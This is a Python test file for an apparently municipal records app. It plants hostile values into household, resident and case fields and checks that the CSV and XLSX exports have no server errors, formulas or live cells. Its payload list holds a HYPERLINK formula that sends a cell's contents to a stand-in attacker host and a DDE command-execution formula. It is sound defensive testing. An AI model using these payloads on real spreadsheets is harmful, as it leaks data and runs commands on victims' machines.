"""Hostile cell values through every export endpoint: no 5xx, no formula, no live CSV cell.

Each value is planted in one field at a time (in a savepoint rolled back afterwards), then
every export carrying that field is fetched. Printable values go in through the real
actions (cases through Open311, as a client would send them); values the actions cannot
store as such (control characters, a leading tab or carriage return, which the actions
strip or the edge refuses) are written over a row the actions made, as data stored before
the edge rule would be. NUL cannot be stored in a PostgreSQL text column, so it is tried
on SQLite only.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import dataclass, field

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from gridgov.cases.models import Case
from gridgov.open311.keys import check_create_key
from tests.factories.access import bearer, make_user
from tests.factories.cases import centre, draw_polygons, make_categories
from tests.factories.registry import make_household, make_resident
from tests.factories.territory import make_tree

API = "/api/v1"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Printable values the actions store as they are.
PRINTABLE = (
    "=1+2",
    "=1+1",
    '=HYPERLINK("http://evil.example/?q="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+86 138 0000 0000",
    "+1",
    "-x",
    "-1+2",
    "@a",
    "@SUM(A1:A9)",
    "#N/A",
    "#DIV/0!",
    "'=1+2",
    "''-x",
)
# Values written over a row the actions made (the actions strip or refuse them).
RAW = (
    "Li\x01Si",
    "a\x0bb\x0cc",
    "\x1f=1+2",
    "=1\x08",
    "a\ufffeb\uffff",
    "\t=1+2",
    "\r=1+2",
    "\x00",
    "H\x000001",
)
EMAILS = ("=1+2@example.cn", "-x@example.cn", "+x@example.cn")
ENDPOINTS = {
    "households": ("households.csv", "households.xlsx"),
    "residents": ("residents.csv", "residents.xlsx"),
    "cases": ("cases.xlsx",),
}


@dataclass
class Tally:
    tried: int = 0
    server_errors: list[str] = field(default_factory=list)
    other_failures: list[str] = field(default_factory=list)
    unreadable: list[str] = field(default_factory=list)  # a workbook openpyxl cannot open
    formulas: list[str] = field(default_factory=list)
    live_csv_cells: list[str] = field(default_factory=list)


def _check(tally: Tally, client: TestClient, path: str, territory: str, label: str) -> None:
    tally.tried += 1
    try:
        answer = client.get(f"{API}/exports/{path}", params={"territory": territory})
    except Exception as exc:  # the test client re-raises what the app did not handle
        tally.server_errors.append(f"{label} {path}: {type(exc).__name__}")
        return
    if answer.status_code >= 500:
        tally.server_errors.append(f"{label} {path}: {answer.status_code}")
        return
    if answer.status_code != 200:
        tally.other_failures.append(f"{label} {path}: {answer.status_code}")
        return
    if path.endswith(".xlsx"):
        try:
            sheet = load_workbook(io.BytesIO(answer.content)).active
        except Exception as exc:  # malformed XML inside the workbook
            tally.unreadable.append(f"{label} {path}: {type(exc).__name__}")
            return
        for row in sheet.iter_rows():
            tally.formulas += [f"{label} {path}: {c.coordinate}" for c in row if c.data_type == "f"]
    else:
        text = answer.content.decode("utf-8-sig")
        for cells in csv.reader(io.StringIO(text, newline="")):
            live = [cell for cell in cells if cell.startswith(TRIGGERS)]
            tally.live_csv_cells += [f"{label} {path}: {cell!r}" for cell in live]


def _planters(session: Session, unit, key: str, client: TestClient):
    """field -> (plant(value, raw), the exports that carry it, joined by "+")."""

    def address(value: str, raw: bool) -> None:
        household = make_household(session, unit=unit, address="x" if raw else value)
        if raw:
            household.address = value
        session.flush()

    def household_no(value: str, raw: bool) -> None:
        household = make_household(session, unit=unit, household_no="x" if raw else value)
        make_resident(session, household=household)
        if raw:
            household.household_no = value
        session.flush()

    def name(value: str, raw: bool) -> None:
        household = make_household(session, unit=unit)
        resident = make_resident(session, household=household, name="x" if raw else value)
        if raw:
            resident.name = value
        session.flush()

    def first_name(value: str, raw: bool) -> None:
        lon, lat = centre(unit)
        form = {
            "api_key": key,
            "service_code": "sanitation.garbage",
            "lat": f"{lat}",
            "long": f"{lon}",
            "description": "垃圾堆在路口",
            "first_name": "x" if raw else value,
        }
        answer = client.post("/open311/v2/requests.json", data=form)
        assert answer.status_code == 200, answer.text
        if raw:
            case = session.get(Case, answer.json()[0]["service_request_id"])
            assert case is not None
            case.reporter_name = value
            session.flush()

    return {
        "address": (address, "households"),
        "household_no": (household_no, "households+residents"),
        "name": (name, "residents"),
        "first_name": (first_name, "cases"),
    }


def test_hostile_values_export_without_5xx_or_formulas(
    client: TestClient, session: Session, backend: str
) -> None:
    tree = make_tree(session, villages=1, grids_per_village=1, units_per_grid=1)
    draw_polygons(session, tree)
    make_categories(session)
    _row, key = check_create_key(session, name="hostile", actor="test:hostile")
    unit = tree.all_units()[0]
    admin = make_user(session, role="administrator", username="hostile.admin")
    session.flush()
    client.headers.update(bearer(session, admin))
    town = tree.town.code
    tally = Tally()
    planters = _planters(session, unit, key, client)

    def run(label: str, plant: Callable[[], None], kinds: str) -> None:
        with session.begin_nested() as savepoint:
            plant()
            for kind in kinds.split("+"):
                for path in ENDPOINTS[kind]:
                    _check(tally, client, path, town, label)
            savepoint.rollback()

    values = [(value, False) for value in PRINTABLE] + [
        (value, True) for value in RAW if backend == "sqlite" or "\x00" not in value
    ]
    for field_name, (plant, kinds) in planters.items():
        for value, raw in values:
            if field_name == "household_no" and len(value) > 32:
                continue
            run(f"{field_name}={value!r}", lambda p=plant, v=value, r=raw: p(v, r), kinds)
    for email in EMAILS:
        run(f"email={email!r}", lambda e=email: _plant_email(client, key, unit, e), "cases")

    print(
        f"\n[{backend}] export requests tried: {tally.tried}; 5xx: {len(tally.server_errors)}; "
        f"formula cells: {len(tally.formulas)}; live CSV cells: {len(tally.live_csv_cells)}; "
        f"unreadable workbooks: {len(tally.unreadable)}; "
        f"other failures: {len(tally.other_failures)}"
    )
    assert not tally.server_errors, tally.server_errors
    assert not tally.other_failures, tally.other_failures
    assert not tally.unreadable, tally.unreadable
    assert not tally.formulas, tally.formulas
    assert not tally.live_csv_cells, tally.live_csv_cells


def _plant_email(client: TestClient, key: str, unit, email: str) -> None:
    lon, lat = centre(unit)
    form = {
        "api_key": key,
        "service_code": "sanitation.garbage",
        "lat": f"{lat}",
        "long": f"{lon}",
        "description": "垃圾堆在路口",
        "email": email,
    }
    answer = client.post("/open311/v2/requests.json", data=form)
    assert answer.status_code == 200, answer.text
